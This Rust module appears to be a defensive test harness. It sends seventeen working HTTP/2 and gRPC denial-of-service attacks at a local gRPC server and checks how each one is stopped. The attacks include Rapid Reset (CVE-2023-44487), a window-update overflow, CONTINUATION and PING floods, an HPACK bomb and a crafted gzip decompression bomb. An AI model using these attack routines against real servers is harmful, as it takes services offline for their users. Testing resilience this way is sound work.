//! The seventeen attacks, one connection at a time, each until the server ends it or answers all of it.

use std::io;
use std::net::Ipv4Addr;
use std::time::Duration;

use crate::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, Wire, call, frame,
    header, setting,
};

/// Where attackers come from.
pub(crate) const ATTACKER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 3);
/// Frames that an attacker sends before it counts as not having been stopped.
const FRAMES_MAX: u32 = 200_000;
/// An rpc that takes streams of messages from anybody who has a token.
pub(crate) const EXCHANGE: &str = "/stonechat.v1.SessionService/Exchange";
/// An rpc that needs a token.
pub(crate) const UNARY: &str = "/stonechat.v1.UserService/GetUsers";
/// An rpc that needs none.
pub(crate) const HEALTH: &str = "/grpc.health.v1.Health/Check";
/// Streams that an attacker opens on a connection.
pub(crate) const STREAMS: u32 = 64;
/// Within this a request is there as a whole, or is answered as late; calls without a body last as long.
const REQUEST_WITHIN: Duration = Duration::from_secs(10);
/// Longest payload that the server takes.
const FRAME_BYTES_MAX: usize = 16 * 1024;

/// What stops an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum End {
    /// HTTP/2 itself closes the connection, with any of these words of GOAWAY.
    Http2(&'static [&'static str]),
    /// The edge closes it, and counts it by this reason.
    Edge(&'static str),
    /// The one, with any of these words, or the other: it depends on the pieces in which the attack arrives.
    Either(&'static [&'static str], &'static str),
    /// The server answers or resets every stream, and the connection stays.
    Answered,
}

/// How the edge counts who sends too many frames that carry nothing.
const FRAMES: &str = "frame_flood";
/// How it counts who sends too many requests that HTTP/2 answers by itself.
const REQUESTS: &str = "request_flood";
/// What the edge counts connections by that it ends for what came over them.
pub(crate) const FLOODS: [&str; 2] = [FRAMES, REQUESTS];

/// An attack: its name, and how it is to end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    RapidReset,
    PacedReset,
    WindowOverflow,
    DataAfterEnd,
    Continuation,
    HpackBomb,
    Metadata,
    Ping,
    Settings,
    LengthPrefix,
    EmptyData,
    OneByteData,
    GzipBomb,
    NoBody,
    HeaderReferences,
    ForbiddenHeader,
    RefusedStreams,
}

pub(crate) const ATTACKS: [(Attack, End); 17] = [
    (Attack::RapidReset, End::Either(&["too_many_resets"], FRAMES)),
    (Attack::PacedReset, End::Either(&["too_many_resets"], FRAMES)),
    (
        Attack::WindowOverflow,
        End::Either(&["too_many_internal_resets"], FRAMES),
    ),
    // Without words for what comes on a stream that has ended; unless there is too much of it before that is looked at.
    (Attack::DataAfterEnd, End::Http2(&["", "too_many_data_frames"])),
    (Attack::Continuation, End::Either(&["too_many_continuations"], FRAMES)),
    (Attack::HpackBomb, End::Http2(&["header_list_way_too_large"])),
    (Attack::Metadata, End::Answered),
    (Attack::Ping, End::Edge(FRAMES)),
    (Attack::Settings, End::Edge(FRAMES)),
    (Attack::LengthPrefix, End::Answered),
    (Attack::EmptyData, End::Either(&["too_many_data_frames"], FRAMES)),
    (Attack::OneByteData, End::Edge(FRAMES)),
    (Attack::GzipBomb, End::Answered),
    (Attack::NoBody, End::Answered),
    (
        Attack::HeaderReferences,
        End::Either(&["too_many_internal_resets"], REQUESTS),
    ),
    (Attack::ForbiddenHeader, End::Http2(&["too_many_internal_resets"])),
    (
        Attack::RefusedStreams,
        End::Either(&["too_many_internal_resets"], REQUESTS),
    ),
];

/// A client's stream of this number.
pub(crate) fn id(number: u32) -> u32 {
    2 * number + 1
}

/// The frame that opens a stream whose body is to come.
pub(crate) fn open(stream: u32, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &call(path, more))
}

/// The frame of a call without a body.
pub(crate) fn whole(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &call(path, &[]))
}

pub(crate) fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

impl Attack {
    /// How long one attempt lasts by itself: until a request that never comes is given up, or until the server has closed.
    pub(crate) fn lasts(self) -> Duration {
        match self {
            Self::NoBody => REQUEST_WITHIN,
            _ => Duration::ZERO,
        }
    }

    /// Attacks over one connection until it is closed or everything was sent. Errors are the server's closing.
    pub(crate) async fn run(self, wire: &mut Wire) -> io::Result<()> {
        match self {
            Self::RapidReset => resets(wire, 100, Duration::ZERO).await,
            Self::PacedReset => resets(wire, 10, Duration::from_millis(2)).await,
            Self::WindowOverflow => window_overflow(wire).await,
            Self::DataAfterEnd => {
                wire.write(&whole(1, HEALTH)).await?;
                flood(wire, &frame(DATA, 0, 1, b"more than there is")).await
            }
            Self::Continuation => {
                wire.write(&frame(HEADERS, 0, 1, &call(UNARY, &[]))).await?;
                flood(wire, &frame(CONTINUATION, 0, 1, &header("x", "y"))).await
            }
            Self::HpackBomb => hpack_bomb(wire).await,
            Self::Metadata => large_metadata(wire).await,
            Self::Ping => flood(wire, &frame(PING, 0, 0, &[0; 8])).await,
            Self::Settings => flood(wire, &frame(SETTINGS, 0, 0, &[])).await,
            // The length says 4 MiB; nothing follows.
            Self::LengthPrefix => bodies(wire, EXCHANGE, &[], &[0, 0, 0x40, 0, 0], 0).await,
            Self::EmptyData => {
                wire.write(&open(1, EXCHANGE, &[])).await?;
                flood(wire, &frame(DATA, 0, 1, &[])).await
            }
            Self::OneByteData => one_byte_data(wire).await,
            Self::GzipBomb => bodies(wire, HEALTH, &[("grpc-encoding", "gzip")], &gzip_message(), END_STREAM).await,
            Self::NoBody => bodies(wire, HEALTH, &[], &[], 0).await,
            Self::HeaderReferences => header_references(wire).await,
            Self::ForbiddenHeader => {
                let headers = call(HEALTH, &[("connection", "keep-alive")]);
                requests(wire, 0, |stream| {
                    frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers)
                })
                .await
            }
            // The first of them wait for their hello; there may be no more beside them.
            Self::RefusedStreams => requests(wire, 0, |stream| open(stream, EXCHANGE, &[])).await,
        }
    }
}

/// The same frame again and again.
pub(crate) async fn flood(wire: &mut Wire, frame: &[u8]) -> io::Result<()> {
    const AT_ONCE: u32 = 100;
    let many = frame.repeat(AT_ONCE as usize);
    for _ in 0..FRAMES_MAX / AT_ONCE {
        wire.write(&many).await?;
    }
    Ok(())
}

/// Opens streams and takes them back at once (CVE-2023-44487).
async fn resets(wire: &mut Wire, at_once: u32, pause: Duration) -> io::Result<()> {
    let mut next = 0;
    while next < FRAMES_MAX / 2 {
        let some = (next..next + at_once).flat_map(|number| [whole(id(number), HEALTH), reset(id(number))].concat());
        wire.write(&some.collect::<Vec<u8>>()).await?;
        next += at_once;
        tokio::time::sleep(pause).await;
    }
    Ok(())
}

/// Has the server reset streams, by window updates above what a window may be (CVE-2025-8671).
async fn window_overflow(wire: &mut Wire) -> io::Result<()> {
    for number in 0..FRAMES_MAX / 2 {
        let stream = id(number);
        let update = frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
        wire.write(&[open(stream, EXCHANGE, &[]), update].concat()).await?;
    }
    Ok(())
}

/// The same request on a new stream again and again, from this number on.
async fn requests(wire: &mut Wire, first: u32, request: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    const AT_ONCE: u32 = 20;
    let mut next = first;
    while next < FRAMES_MAX {
        let some = (next..next + AT_ONCE).flat_map(|number| request(id(number)));
        wire.write(&some.collect::<Vec<u8>>()).await?;
        next += AT_ONCE;
    }
    Ok(())
}

/// A header of 4,000 bytes that the table keeps: a literal with indexing (RFC 7541, 6.2.1), its name of one byte.
fn kept_header() -> Vec<u8> {
    [&[0x40, 1, b'x', 127, 0xa1, 0x1e][..], &[b'y'; 4_000]].concat()
}

/// A reference to the header that the table keeps.
const KEPT: u8 = 0x80 | 62;

/// One header in the table, then requests of a few bytes that name it three times: more than headers may have.
async fn header_references(wire: &mut Wire) -> io::Result<()> {
    let first = [call(UNARY, &[]), kept_header()].concat();
    wire.write(&frame(HEADERS, END_HEADERS | END_STREAM, id(0), &first))
        .await?;
    // By their places in the static table: POST, http and a path.
    let headers = [0x80 | 3, 0x80 | 6, 0x80 | 4, KEPT, KEPT, KEPT];
    requests(wire, 1, |stream| {
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers)
    })
    .await
}

/// One long header in the table, then as many references to it as fit a frame, again and again.
async fn hpack_bomb(wire: &mut Wire) -> io::Result<()> {
    let headers = [call(UNARY, &[]), kept_header(), vec![KEPT; 10_000]].concat();
    for number in 0..FRAMES_MAX {
        let bomb = frame(HEADERS, END_HEADERS | END_STREAM, id(number), &headers);
        wire.write(&bomb).await?;
    }
    Ok(())
}

/// 15 KB of headers in each call, in one frame: what goes on in a second one would count as a frame that carries nothing.
async fn large_metadata(wire: &mut Wire) -> io::Result<()> {
    let headers = [call(UNARY, &[]), header("x", &"y".repeat(1_000)).repeat(15)].concat();
    for number in 0..STREAMS {
        wire.write(&frame(HEADERS, END_HEADERS | END_STREAM, id(number), &headers))
            .await?;
    }
    Ok(())
}

/// The same body on every stream there may be, its last frame with these flags.
async fn bodies(wire: &mut Wire, path: &str, more: &[(&str, &str)], body: &[u8], flags: u8) -> io::Result<()> {
    // The window of the whole connection is small until the server has said otherwise.
    wire.until(|seen| seen.frames[usize::from(WINDOW_UPDATE)] > 0).await;
    for number in 0..STREAMS {
        let mut call = open(id(number), path, more);
        let mut pieces = body.chunks(FRAME_BYTES_MAX).peekable();
        while let Some(piece) = pieces.next() {
            let flags = if pieces.peek().is_none() { flags } else { 0 };
            call.extend(frame(DATA, flags, id(number), piece));
        }
        wire.write(&call).await?;
    }
    Ok(())
}

/// Messages in frames of one byte each, in streams that are read.
async fn one_byte_data(wire: &mut Wire) -> io::Result<()> {
    let message = [&[0, 0, 0, 0xff, 0xff][..], &[0; 0xffff]].concat();
    for number in 0..STREAMS {
        wire.write(&open(id(number), EXCHANGE, &[])).await?;
        for bytes in message.chunks(100) {
            let frames = bytes.iter().flat_map(|byte| frame(DATA, 0, id(number), &[*byte]));
            wire.write(&frames.collect::<Vec<u8>>()).await?;
        }
    }
    Ok(())
}

/// A compressed message of 1 MiB of zeros in 7 KiB: deflate's blocks repeat the last byte 258 times in less than a byte.
fn gzip_message() -> Vec<u8> {
    let mut gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    // A block with fixed codes: the literal 0, then matches of length 258 at distance 1, in bits.
    let mut bits = vec![true, true, false];
    bits.extend(code(0x30, 8));
    for _ in 0..1024 * 1024 / 258 {
        bits.extend(code(0xc5, 8));
        bits.extend(code(0, 5));
    }
    bits.extend(code(0, 7));
    gzip.extend(
        bits.chunks(8)
            .map(|byte| byte.iter().rev().fold(0_u8, |sum, bit| sum << 1 | u8::from(*bit))),
    );
    // Checksum and length are not looked at before the limit is.
    gzip.extend([0; 8]);
    let length = u32::try_from(gzip.len()).expect("short").to_be_bytes();
    [&[1][..], &length, &gzip].concat()
}

/// The bits of a Huffman code, first bit first.
fn code(value: u16, width: u16) -> impl Iterator<Item = bool> {
    (0..width).rev().map(move |bit| value >> bit & 1 == 1)
}

/// Opens the connection that an attack goes over.
pub(crate) async fn attacker(authority: &str) -> io::Result<Wire> {
    // Windows as large as may be: nothing holds the server's answers back.
    let settings = setting(4, 0x7fff_ffff);
    Wire::greet(authority, ATTACKER, &settings).await
}
